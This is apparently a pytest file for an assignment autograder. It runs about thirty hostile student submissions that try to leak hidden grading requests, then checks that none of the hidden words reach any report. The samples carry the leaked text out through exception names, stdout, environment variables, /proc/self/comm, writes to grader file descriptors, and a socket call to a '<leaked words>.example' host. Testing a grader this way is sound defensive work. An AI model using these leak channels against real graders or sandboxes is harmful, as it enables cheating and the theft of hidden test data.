"""Bots that have seen the hidden requests and try to write them onto their own page."""

import base64
import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot_sources import with_policy
from class_bank import KEY
from class_bank import class_key as class_key
from cli_runner import tree
from hostile_class import graded, handed_in
from microgpt.assignment.grading import grader
from microgpt.assignment.grading.cases import make_suite
from microgpt.assignment.grading.grader import Options, prepare
from microgpt.assignment.kit.variants import variant
from microgpt.assignment.reports import terminal
from microgpt.assignment.result import Result

_BOT = """
import builtins, json, os, random, sys, threading, warnings
SEEN = []

def told():
    return " ".join(SEEN[-400:])

def name():
    return "_".join(SEEN[-40:])

def leak():
    LEAK

def is_safe_request(prefixes):
    SEEN.extend(prefixes)
    REQUEST

def is_safe_name(name):
    SEEN.append(name)
    NAME
"""


_SILENT = _BOT.replace("LEAK", "pass").replace("REQUEST", "return None").replace("NAME", "return 1")


def _bot(leak: str = "pass", request: str = "leak()", name: str = "leak()\nreturn True") -> str:
    source = _BOT
    for mark, code in (("LEAK", leak), ("REQUEST", request), ("NAME", name)):
        source = source.replace(mark, code.replace("\n", "\n    "))
    return with_policy(source)


_RAISE = "raise {}"
_THREAD = """def work():
    raise ValueError(told())
thread = threading.Thread(target=work, name=told())
thread.start()
thread.join()"""
_OPEN = """try:
    open("/tmp/" + name()[-200:])
except OSError:
    pass"""
_SOCKET = """import socket
try:
    socket.create_connection((name()[-60:] + ".example", 80), 1)
except OSError:
    pass"""
_TITLE = """sys.argv[:] = [told()]
sys.orig_argv[:] = [told()]
try:
    with open("/proc/self/comm", "w") as file:
        file.write(SEEN[-1])
except OSError:
    pass"""

LEAKS = {
    "exception-class": _bot(_RAISE.format("type(told(), (Exception,), {})()")),
    "exception-identifier": _bot(_RAISE.format("type(name(), (ValueError,), {})()")),
    "exception-message": _bot(_RAISE.format("ValueError(told())")),
    "exception-like-ours": _bot(_RAISE.format("type('no answer: ' + told(), (Exception,), {})()")),
    "exception-builtin": _bot(_RAISE.format("type('ValueError ' + told(), (ValueError,), {})()")),
    "exception-notes": _bot("error = KeyError(1)\nerror.__notes__ = [told()]\nraise error"),
    "qualname-docstring": _bot(
        "class E(Exception):\n    pass\nE.__qualname__ = E.__doc__ = E.__module__ = told()\nraise E"
    ),
    "own-names": _bot("is_safe_name.__name__ = is_safe_name.__doc__ = told()"),
    "patterns": _bot("globals().update({told(): 1, 'BLOCKED_PREFIX_PATTERNS': SEEN})"),
    "type-returned": _bot("pass", *["return type(told(), (), {})()"] * 2),
    "reason": _bot(request="return told() + '.'", name="return False"),
    "module-attribute": _bot("for one in SEEN[-50:]:\n    setattr(random, one, print)"),
    "module-long-attribute": _bot("setattr(random, told(), print)\nrandom.choices = print"),
    "new-builtins": _bot("for one in SEEN[-50:]:\n    setattr(builtins, one, print)"),
    "module-names": _bot("sys.modules[told()] = json\nfor one in SEEN: sys.modules[one] = random"),
    "module-replaced": _bot(
        "class M(type(sys)):\n    pass\nM.__name__ = told()\nsys.modules['random'] = M(told())"
    ),
    "stdout": _bot("print(told())"),
    "stderr": _bot("sys.stderr.write(told())"),
    "warnings": _bot("warnings.warn(told(), type(told(), (UserWarning,), {}))"),
    "excepthook": _bot("sys.excepthook = sys.__excepthook__ = lambda *_: print(told())\n1 / 0"),
    "exit-text": _bot("if len(SEEN) > 300: raise SystemExit(told())"),
    "exit-code": _bot("if len(SEEN) > 300: os._exit(ord(SEEN[-1][:1] or 'a'))"),
    "file-names": _bot(_OPEN),
    "threads": _bot(_THREAD),
    "title": _bot(_TITLE),
    "environment": _bot("os.environ[name()[-500:]] = told()"),
    "host-names": _bot(_SOCKET),
    "evidence": _bot("os.write(5, ('crash ' + told()[:3000] + '\\n').encode())"),
    "answers": _bot("os.write(4, json.dumps({'id': told(), 'error': told()}).encode() + b'\\n')"),
    "crash-when-run": with_policy(
        _SILENT + "if __name__ == '__main__':\n    raise type(input(), (Exception,), {})\n"
    ),
    "echo-when-run": with_policy(
        _SILENT + "if __name__ == '__main__':\n    for line in sys.stdin:\n        print(line)\n"
    ),
}  # fmt: skip


def texts(out: Path) -> Iterator[tuple[str, str]]:
    """All that grading wrote, as a reader gets it."""
    for file, data in tree(out).items():
        yield file, base64.b64decode(data).decode() if "classroom" in file else data.decode()


def secrets_of(student: str) -> tuple[set[str], set[str]]:
    """Hidden requests and planted names, of four letters and more; and public examples."""
    bank = prepare(Options(key=KEY)).bank
    suite = make_suite(bank, variant(student, KEY))
    hidden = {word for case in suite.cases for word in (*case.prefixes, case.line)}
    public = {word for case in suite.cases if case.public for word in case.prefixes}
    words = {word for word in {*hidden, *suite.planted} if re.fullmatch("[a-z]{4,}", word)}
    return words - set(bank.words) - {f"{word}s" for word in bank.words}, public


def words_of_ours() -> set[str]:
    """What reports are written with: some prefixes, such as ``make``, are words of it."""
    sources = Path(grader.__file__).parents[1].rglob("*.py")
    return {w for path in sources for w in re.findall("[a-z]+", path.read_text("utf-8").lower())}


def found_in(text: str, words: set[str]) -> set[str]:
    """Those of the words that stand in the text, among whatever isn't a letter."""
    return words & set(re.findall("[a-z]+", text.lower()))


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32", reason="submissions can't be run there")
def test_no_hidden_request_comes_out(tmp_path: Path, class_key: Path) -> None:
    assert len(LEAKS) >= 20
    folder = handed_in(tmp_path / "class", LEAKS)
    out = tmp_path / "out"
    done, results = graded(
        folder, out, "--key", class_key, "--json", "--jobs", 2,
        "--format", "gradescope", "otter", "classroom", "junit",
    )  # fmt: skip
    assert results.keys() == LEAKS.keys()
    verdicts = [Result.from_json(raw) for raw in results.values()]
    said = {
        **dict(texts(out)),
        "--json": done.out,
        "standard error": done.err,
        "table": terminal.render_class(verdicts),
        **{f"terminal, {one.student}": terminal.render(one) for one in verdicts},
    }
    assert len(said) >= 3 * len(LEAKS)
    secrets = {student: secrets_of(student) for student in LEAKS}
    everybodys = set.union(*(public for _, public in secrets.values()), words_of_ours())
    leaked = []
    for student, (hidden, _) in secrets.items():
        words = hidden - everybodys
        assert len(words) > 200
        for where, text in said.items():
            if found := found_in(text, words):
                leaked.append(f"{student}: {sorted(found)[:5]} in {where}")
    assert not leaked, "\n".join(leaked)
    assert "/tmp/" not in "".join(said.values()).replace(str(tmp_path), "")
